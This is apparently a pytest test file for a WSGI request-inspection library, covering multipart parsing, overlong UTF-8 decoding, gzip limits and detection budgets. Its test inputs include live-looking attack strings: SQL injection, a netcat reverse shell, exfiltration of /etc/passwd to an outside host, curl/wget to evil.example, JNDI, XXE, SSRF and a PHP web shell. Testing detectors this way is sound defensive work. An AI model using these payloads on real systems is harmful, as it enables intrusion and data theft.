"""Bodies that take long to read: what is fast for them gives the same result."""

from __future__ import annotations

import gzip
import json
import random
import re
import sys
from collections.abc import Iterator
from types import FrameType

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guard_wsgi.detection import BUDGET, Detector
from guard_wsgi.detection.decoding.decodings import overlong
from guard_wsgi.detection.finding import BEYOND
from guard_wsgi.detection.message import multipart
from guard_wsgi.detection.message.bodies import FIRST_PIECE_BYTES, MAX_MEMBERS, inflate
from guard_wsgi.detection.message.form import form_values
from guard_wsgi.detection.value import DENSITY, UNREAD, Budget, Value

PLENTY = Budget(0, 10**9)
# The lines that end a part: werkzeug's (`MultipartDecoder.boundary_re`), and Bottle's.
WERKZEUG_LINE = rb"(?:\r\n|\n|\r|\A)%s(?:--[^\S\n\r]*(?:\r\n|\n|\r)?|[^\S\n\r]*(?:\r\n|\n|\r))"
BOTTLE_LINE = rb"(?:\r\n|\A)%s(?:--)?(?=\r\n|\Z)(?:\r\n)?"
BOUNDARIES = [b"B", b"-", b"--", b"BB", b"x y"]
PIECES = [b"--", b"-", b"\r\n", b"\n", b"\r", b" ", b"\t", b"x", b"B", b"--B", b"---", b"--x y"]


@given(st.sampled_from(BOUNDARIES), st.lists(st.sampled_from(PIECES), max_size=14).map(b"".join))
def test_parts_end_where_the_frameworks_end_them(boundary: bytes, body: bytes) -> None:
    delimiter = b"--" + boundary
    for line, cut in (
        (WERKZEUG_LINE, multipart._as_werkzeug),
        (BOTTLE_LINE, multipart._as_bottle),
    ):
        assert cut(body, delimiter, 99) == re.split(line % re.escape(delimiter), body, maxsplit=99)


def slowly_overlong(data: bytes) -> str:
    out = []
    at = 0
    while at < len(data):
        width = {0xC0: 2, 0xC1: 2, 0xE0: 3, 0xF0: 4}.get(data[at], 0)
        form = data[at : at + width]
        code = form[0] & 0x1F if width == 2 else 0
        for byte in form[1:]:
            code = code << 6 | (byte & 0x3F)
        is_hidden = width > 0 and len(form) == width and code < 0x80
        out.append(chr(code if is_hidden else data[at]))
        at += width if is_hidden else 1
    return "".join(out)


FORMS = st.sampled_from([0xC0, 0xC1, 0xE0, 0xF0, 0x80, 0x81, 0xAF, 0, 0x40, 0x41, 0xC2, 0xFF])


@given(st.lists(FORMS | st.integers(0, 255), max_size=12).map(bytes))
def test_forms_of_ascii_in_more_bytes_become_what_they_hide(data: bytes) -> None:
    assert overlong(data) == slowly_overlong(data)


def test_empty_pairs_of_a_form_cost_nothing() -> None:
    data = b"&&&a=1&&" + b"&" * 1000 + b"b=2&"
    values = list(form_values(data, "form", Budget(2, 100)))
    assert [(one.name, one.text) for one in values] == [("a", "1"), ("b", "2")]


def calls_of(body: bytes) -> tuple[int, list[str]]:
    """How many calls an inspection makes, and the categories of its findings."""
    inspection = Detector().compile()
    inspection.body(b"warm <script>", content_type="text/plain")
    calls = 0

    def count(frame: FrameType, event: str, argument: object) -> None:
        nonlocal calls
        calls += event in ("call", "c_call")

    sys.setprofile(count)
    try:
        found = inspection.body(body, content_type="application/json")
    finally:
        sys.setprofile(None)
    return calls, [one.category for one in found]


def test_after_a_finding_hardly_any_work_is_done() -> None:
    rng = random.Random(3)
    flood = ["".join(rng.choices("abcdef", k=6)) + "' or <b" for _ in range(4000)]
    attack = "1' UNION SELECT password FROM users-- -"
    alone, _ = calls_of(json.dumps(flood).encode())
    after, found = calls_of(json.dumps([attack, *flood]).encode())
    assert "sqli" in found
    assert BUDGET not in found
    assert after < alone / 2


@pytest.mark.parametrize("attack", ["<script>alert(1)</script>", "1' UNION SELECT a FROM b-- -"])
def test_the_beginning_of_a_text_that_is_too_long_is_weighed(attack: str) -> None:
    text = attack + " " + "it's a <b>' or</b> " * 400_000
    found = Detector().compile().body(text.encode(), content_type="text/plain")
    assert any(one.category != BUDGET for one in found)


FORM = "application/x-www-form-urlencoded"
SQL = b"q=1' UNION SELECT password FROM users-- -"


def budgets_of(body: bytes, media: str, coding: str = "") -> tuple[set[str], set[str]]:
    """The categories of the findings, and the limits that were spent."""
    found = Detector().compile().body(body, content_type=media, content_encoding=coding)
    spent = {one.indicators[0] for one in found if one.category == BUDGET}
    return {one.category for one in found} - {BUDGET}, spent


@pytest.mark.parametrize("coding", ["gzip", ""])
def test_each_member_of_a_compressed_body_is_weighed(coding: str) -> None:
    empty = gzip.compress(b"")
    attacked = empty * (MAX_MEMBERS - 1) + gzip.compress(SQL)
    categories, _ = budgets_of(attacked, FORM, coding)
    assert "sqli" in categories


@pytest.mark.parametrize("coding", ["gzip", ""])
@pytest.mark.parametrize("member", [b"", b"a"])
def test_more_members_than_are_read_refuse_a_body(member: bytes, coding: str) -> None:
    attacked = gzip.compress(member) * MAX_MEMBERS + gzip.compress(SQL)
    assert UNREAD in budgets_of(attacked, FORM, coding)[1]
    _, spent = budgets_of(gzip.compress(b"line") * (MAX_MEMBERS + 1), "image/png", "gzip")
    assert spent == {BEYOND}  # a file; apps store it


@given(st.lists(st.binary(max_size=9 * FIRST_PIECE_BYTES), min_size=1, max_size=9), st.binary())
def test_members_are_read_in_pieces_like_at_once(texts: list[bytes], rest: bytes) -> None:
    packed = b"".join(gzip.compress(text, level) for level, text in enumerate(texts))
    whole = b"".join(texts)
    assert inflate(packed, "gzip", 10**6, PLENTY) == (whole, "")
    assert inflate(packed + b"no" + rest, "gzip", 10**6, PLENTY) == (whole, "")
    if len(whole) > 1:
        limit = len(whole) // 2
        assert inflate(packed, "gzip", limit, PLENTY) == (whole[:limit], BEYOND)
    assert inflate(packed[:-1], "gzip", 10**6, PLENTY) == (whole, BEYOND)


def test_a_batch_of_more_than_servers_take_is_weighed_and_reported() -> None:
    batch = json.dumps([{"query": "{a}"}] * 4)[1:-1]
    attack = json.dumps("1' UNION SELECT password FROM users-- -")
    body = f"[{batch},{'{},' * 30_000}{attack}]".encode()
    calls, found = calls_of(body)
    assert "sqli" in found
    assert calls < 30_000
    harmless = f"[{batch},{'{},' * 30_000}{json.dumps('see <b>it</b> $(b)')}]".encode()
    categories, spent = budgets_of(harmless, "application/json")
    assert not categories
    assert spent <= {BEYOND, DENSITY}


SHORT_VALUES = [f"it's {number} <b> or {number}=x select" for number in range(4700)]
"""They spend a request's budget, and little enough of what is kept for a search."""


@pytest.mark.parametrize(
    "attack",
    [
        ";cat /etc/passwd|nc 1.2.3.4 99",
        "| nc -e /bin/sh 192.0.2.1 4444",
        "$(curl evil.example/x)",
        "`wget evil.example`",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}${T(java.lang.Runtime).getRuntime()}",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "'; drop table users; --",
        "1); delete from users; --",
        "${jndi:ldap://x.evil.example/a}",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "http://169.254.169.254/latest/meta-data/",
        "<?php system($_GET[1]);?>",
    ],
)
def test_an_attack_behind_many_short_values_is_weighed(attack: str) -> None:
    body = json.dumps({"a": SHORT_VALUES, "z": attack}).encode()
    categories, _ = budgets_of(body, "application/json")
    assert categories


@pytest.mark.parametrize(
    "line", ["./run.sh; make -j{} | tee $(date).log", "see {{name}} no {}; ok"]
)
def test_short_harmless_values_with_marks_are_reported_and_pass(line: str) -> None:
    marked = [line.replace("{}", str(number)) for number in range(300)]
    body = json.dumps({"a": SHORT_VALUES, "logs": marked}).encode()
    _, spent = budgets_of(body, "application/json")
    assert spent == {BEYOND}


@pytest.mark.parametrize(
    ("media", "body"),
    [
        ("application/json; charset*=a; charset*0=b", b'{"q": "' + SQL[2:] + b'"}'),
        ("application/x-www-form-urlencoded; charset*0=a; charset*=b", SQL),
        ("multipart/form-data; boundary=B; boundary*=a; boundary*0=b", b""),
        ("multipart/form-data; boundary=B", b"; x*=a; x*0=b"),
        ("multipart/form-data; boundary=B", b"; filename*0*=a; filename*=b"),
    ],
)
def test_a_parameter_in_pieces_with_and_without_numbers_hides_nothing(
    media: str, body: bytes
) -> None:
    """Python's `email` can't sort such pieces (RFC 2231, 3)."""
    if media.startswith("multipart"):
        head = b'--B\r\nContent-Disposition: form-data; name="q"' + body
        body = head + b"\r\n\r\n" + SQL[2:] + b"\r\n--B--\r\n"
    assert "sqli" in budgets_of(body, media)[0]


def test_a_fault_while_a_body_is_read_is_a_finding() -> None:
    inspection = Detector().compile()

    def broken() -> Iterator[Value]:
        yield Value("form", "q", SQL[2:].decode())
        raise TypeError("a fault of a parser")

    found = inspection._values.findings(broken(), inspection._budget(0), "body")
    assert [one.category for one in found] == [BUDGET, "sqli"]
    assert found[0].indicators == (UNREAD,)


def test_a_long_name_of_a_part_is_cut() -> None:
    """Its patterns take the square: 15 kB of underscores took ten seconds."""
    head = '--B\r\nContent-Disposition: form-data; name="' + "_" * 15_000
    body = f"{head}\"\r\n\r\n1' or 1 ..\r\n--B--\r\n".encode()
    found = Detector().compile().body(body, content_type="multipart/form-data; boundary=B")
    assert {len(one.name) for one in found} == {100}
